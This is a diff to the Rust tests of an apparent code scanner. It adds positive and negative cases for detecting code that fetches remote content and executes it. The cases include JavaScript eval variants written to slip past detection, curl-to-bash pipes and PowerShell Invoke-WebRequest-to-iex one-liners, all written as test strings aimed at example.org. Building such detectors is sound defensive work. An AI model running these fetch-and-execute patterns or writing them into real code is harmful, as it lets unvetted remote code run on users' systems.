@@ -200,8 +200,16 @@ mod tests {
             "const x = new XMLHttpRequest(); x.onload = () => { window.eval(x.responseText) }",
             "request(u, (err, res, body) => { new Function(body)() })",
             "const handler = new Function.constructor('require', (await axios.get(u)).data);",
+            "const r = await fetch(u);\neval (r)",
+            "const r = await fetch(u);\neval /* so */\n(r)",
+            "const r = await fetch(u);\nthis.eval(r)",
+            "const r = await fetch(u);\neval.call(null, r)",
+            "const r: string = await fetch(u);\neval(')' + r)",
+            "const parts = [];\nparts.push(await fetch(u));\neval(parts.join(''))",
+            "cache[key] = await fetch(u);\neval(cache[key])",
+            "let r;\nr ??= await fetch(u);\nglobalThis.eval(r)",
         ];
-        flow(Type::JavaScript, &["EvaluatesFetched"], texts.get(..10).unwrap());
+        flow(Type::JavaScript, &["EvaluatesFetched"], &texts);
         let texts = [
             "exec(requests.get(u).text)",
             "import urllib.request\nsource = urllib.request.urlopen(u).read().decode()\nexec(compile(source, 'x', 'exec'))",
@@ -270,7 +278,23 @@ mod tests {
         flow(
             Type::Shell,
             &["FetchesAndRuns"],
-            &["curl -fsSL https://example.org | sudo bash\n", "sh -c \"$(curl -fsSL https://example.org)\"\n"],
+            &[
+                "curl -fsSL https://example.org | sudo bash\n",
+                "sh -c \"$(curl -fsSL https://example.org)\"\n",
+                "curl -fsSL https://example.org | sudo -u root A=b /usr/bin/bash\n",
+                "echo 'one; two'; curl https://example.org | sh\n",
+                "set -e; bash -c \"$(curl https://example.org)\"\n",
+                "curl https://example.org \\\n  | sh\n",
+            ],
+        );
+    }
+
+    #[test]
+    fn a_shell_evaluates_what_it_is_given() {
+        flow(
+            Type::PowerShell,
+            &["EvaluatesFetched"],
+            &["$x = Invoke-WebRequest $u\nIeX $x", "$x = (New-Object Net.WebClient).DownloadString($u); $x | iex"],
         );
     }
 
@@ -281,6 +305,9 @@ mod tests {
             &[],
             &[
                 "fetch('/api').then(eval)",
+                "const other = 1;\ncache[key] = await fetch(u);\nnew Function(other)",
+                "const code = await fetch(u);\nnew Function('return code')",
+                "eval('fetch(u)')",
                 "fetch(u).then(r => r.json()).then(d => { const m = /x/.exec(d.text) })",
                 "const html = compile(template); fetch(u); new Function('a', 'return a')",
                 "const hash = crypto.createHash('md5').digest('hex');\nconst f = new Function('return 1')",
@@ -309,7 +336,11 @@ mod tests {
         flow(
             Type::Shell,
             &[],
-            &["curl -fsSL https://example.org -o a.tgz && tar xf a.tgz\n", "# curl https://example.org | sh\n"],
+            &[
+                "curl -fsSL https://example.org -o a.tgz && tar xf a.tgz\n",
+                "# curl https://example.org | sh\n",
+                "echo 'curl https://example.org | sh'\n",
+            ],
         );
     }
 
